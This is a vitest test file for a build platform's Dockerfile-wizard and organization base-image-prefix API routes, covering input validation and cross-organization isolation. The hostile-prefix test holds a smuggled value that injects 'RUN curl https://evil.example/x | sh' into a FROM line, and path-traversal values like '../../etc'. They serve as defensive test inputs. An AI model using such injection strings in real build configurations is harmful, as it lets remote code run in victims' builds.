import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createOrgWithMember, createTestApi, type TestApi } from '../support/api-client';

// These routes answer before any workflow runs, so the API's Temporal client is never dialled here.
let api: TestApi;
let team: Awaited<ReturnType<typeof createOrgWithMember>>;
let rival: Awaited<ReturnType<typeof createOrgWithMember>>;

beforeAll(async () => {
  api = await createTestApi();
  team = await createOrgWithMember(api, 'wizard-team');
  rival = await createOrgWithMember(api, 'wizard-rival');
});
afterAll(async () => {
  await api?.close();
});

const dockerfile = 'FROM node:24-slim\nUSER node\nCMD ["node", "server.js"]\n';
const dockerignore = '.git\nnode_modules\n';

async function newService(name: string, token = team.token): Promise<string> {
  const svc = await api.request('POST', '/services', {
    token,
    body: { name, gitProvider: 'gitlab', repoUrl: `https://gitlab.example.com/team/${name}.git` },
  });
  expect(svc.status, JSON.stringify(svc.body)).toBe(201);
  return svc.body.id as string;
}

const stored = async (id: string, token = team.token) =>
  (await api.request('GET', `/services/${id}/dockerfile`, { token })).body;

describe('Build Wizard routes', () => {
  it('"Use for builds" round trip: PUT stores, GET answers, DELETE forgets', async () => {
    const id = await newService('wizard-roundtrip');
    expect(await stored(id)).toEqual({ dockerfile: null, dockerignore: null });
    const put = await api.request('PUT', `/services/${id}/dockerfile`, {
      token: team.token,
      body: { dockerfile, dockerignore },
    });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    expect(await stored(id)).toEqual({ dockerfile, dockerignore });
    const edited = `${dockerfile}# reviewed\n`;
    expect(
      (await api.request('PUT', `/services/${id}/dockerfile`, { token: team.token, body: { dockerfile: edited } }))
        .status,
    ).toBe(200);
    expect(await stored(id)).toEqual({ dockerfile: edited, dockerignore: '' });
    const del = await api.request('DELETE', `/services/${id}/dockerfile`, { token: team.token });
    expect(del.status).toBe(204);
    expect(await stored(id)).toEqual({ dockerfile: null, dockerignore: null });
  });

  it('refuses bad bodies with a 400 that says what is wrong, and stores nothing', async () => {
    const id = await newService('wizard-bad-bodies');
    await api.request('PUT', `/services/${id}/dockerfile`, { token: team.token, body: { dockerfile, dockerignore } });
    const bad: Array<[string, unknown, RegExp]> = [
      ['sub-project path escaping the repository', { dockerfile, path: '../../etc' }, /path/],
      ['absolute sub-project path', { dockerfile, path: '/etc' }, /sub-project folder/],
      ['sub-project path with a space', { dockerfile, path: 'apps/my web' }, /sub-project folder/],
      ['oversized Dockerfile', { dockerfile: `FROM scratch\n${'#'.repeat(70_000)}` }, /over 65536 characters/],
      ['oversized .dockerignore', { dockerfile, dockerignore: 'x'.repeat(20_000) }, /over 16384 characters/],
      ['NUL in the Dockerfile', { dockerfile: 'FROM scratch\n\0RUN id\n' }, /NUL/],
      ['NUL in the .dockerignore', { dockerfile, dockerignore: '.git\0' }, /NUL/],
      ['empty Dockerfile', { dockerfile: '  \n' }, /empty/],
      ['unknown field', { dockerfile, buildArgs: { A: '1' } }, /Invalid request/],
      ['no Dockerfile at all', { dockerignore }, /dockerfile/],
    ];
    for (const [what, body, message] of bad) {
      const res = await api.request('PUT', `/services/${id}/dockerfile`, { token: team.token, body });
      expect(res.status, what).toBe(400);
      expect(res.body.message, what).toMatch(message);
    }
    // A sub-project belongs in its folder: "Use for builds" covers the root only.
    const sub = await api.request('PUT', `/services/${id}/dockerfile`, {
      token: team.token,
      body: { dockerfile: 'FROM scratch\n', path: 'apps/web' },
    });
    expect(sub.status).toBe(400);
    expect(sub.body.message).toMatch(/open a merge request/);
    expect(await stored(id)).toEqual({ dockerfile, dockerignore });

    const proposals: Array<[unknown, RegExp]> = [
      [{ path: '../secrets' }, /sub-project folder/],
      [{ path: 'apps/web', extra: true }, /extra/],
    ];
    for (const [body, message] of proposals) {
      const res = await api.request('POST', `/services/${id}/dockerfile`, { token: team.token, body });
      expect(res.status, JSON.stringify(body)).toBe(400);
      expect(res.body.message).toMatch(message);
    }
    const mr = await api.request('POST', `/services/${id}/dockerfile/merge-request`, {
      token: team.token,
      body: { dockerfile: 'FROM scratch\n\0', path: 'apps/web' },
    });
    expect(mr.status).toBe(400);
  });

  it("answers 404 for another organization's service on every route and changes nothing", async () => {
    const theirs = await newService('wizard-theirs', rival.token);
    await api.request('PUT', `/services/${theirs}/dockerfile`, { token: rival.token, body: { dockerfile } });
    const attempts: Array<[string, string, unknown]> = [
      ['GET', `/services/${theirs}/dockerfile`, undefined],
      ['PUT', `/services/${theirs}/dockerfile`, { dockerfile: 'FROM evil\n' }],
      ['DELETE', `/services/${theirs}/dockerfile`, undefined],
      ['POST', `/services/${theirs}/dockerfile`, {}],
      ['POST', `/services/${theirs}/dockerfile/merge-request`, { dockerfile: 'FROM evil\n' }],
    ];
    for (const [method, path, body] of attempts) {
      for (const token of [team.token, team.adminToken]) {
        const res = await api.request(method, path, { token, body });
        expect(res.status, `${method} ${path}`).toBe(404);
        expect(JSON.stringify(res.body)).not.toContain('FROM node');
      }
    }
    expect(await stored(theirs, rival.token)).toEqual({ dockerfile, dockerignore: '' });
    const anonymous = await api.request('GET', `/services/${theirs}/dockerfile`, { token: null });
    expect(anonymous.status).toBe(401);
  });
});

describe('PATCH /organizations/{id} baseImagePrefix', () => {
  const patch = (id: string, token: string, baseImagePrefix: unknown) =>
    api.request('PATCH', `/organizations/${id}`, { token, body: { baseImagePrefix } });
  const prefixOf = async (id: string) =>
    (await api.request('GET', `/organizations/${id}`, { token: team.adminToken })).body.baseImagePrefix;

  it('is set by the org admin, shown to members, and cleared with null or ""', async () => {
    const set = await patch(team.organizationId, team.adminToken, 'mirror.acme.dev:5000/dockerhub/');
    expect(set.status, JSON.stringify(set.body)).toBe(200);
    expect(set.body.baseImagePrefix).toBe('mirror.acme.dev:5000/dockerhub/');
    const seen = await api.request('GET', `/organizations/${team.organizationId}`, { token: team.token });
    expect(seen.body.baseImagePrefix).toBe('mirror.acme.dev:5000/dockerhub/');
    expect((await patch(team.organizationId, team.adminToken, '')).body.baseImagePrefix).toBeNull();
    await patch(team.organizationId, team.adminToken, 'mirror.acme.dev/hub/');
    expect((await patch(team.organizationId, team.adminToken, null)).body.baseImagePrefix).toBeNull();
  });

  it('is refused to a member (403) and to another organization (404), leaving it unchanged', async () => {
    await patch(team.organizationId, team.adminToken, 'mirror.acme.dev/hub/');
    const member = await patch(team.organizationId, team.token, 'evil.example/');
    expect(member.status).toBe(403);
    expect(member.body.message).toMatch(/org_admin|organization admin/i);
    const foreign = await patch(team.organizationId, rival.adminToken, 'evil.example/');
    expect(foreign.status).toBe(404);
    expect(await prefixOf(team.organizationId)).toBe('mirror.acme.dev/hub/');
  });

  it('refuses a hostile prefix (newline, spaces, no trailing slash, a scheme) with a 400 and keeps the old one', async () => {
    await patch(team.organizationId, team.adminToken, 'mirror.acme.dev/hub/');
    const hostile = [
      'mirror.acme.dev/\nRUN curl https://evil.example/x | sh\nFROM node/',
      'mirror.acme.dev/ AS evil/',
      'mirror acme dev/',
      'mirror.acme.dev/hub',
      'https://mirror.acme.dev/',
      'mirror.acme.dev/\tx/',
      `${'a'.repeat(200)}/`,
    ];
    for (const prefix of hostile) {
      const res = await patch(team.organizationId, team.adminToken, prefix);
      expect(res.status, JSON.stringify(prefix)).toBe(400);
      expect(res.body.message, JSON.stringify(prefix)).toMatch(/baseImagePrefix|200/);
    }
    expect(await prefixOf(team.organizationId)).toBe('mirror.acme.dev/hub/');
    // Whitespace around a good prefix is trimmed away: what is stored never carries a newline into a FROM line.
    const padded = await patch(team.organizationId, team.adminToken, '\nmirror.acme.dev/hub2/\n');
    expect(padded.status).toBe(200);
    expect(await prefixOf(team.organizationId)).toBe('mirror.acme.dev/hub2/');
  });
});
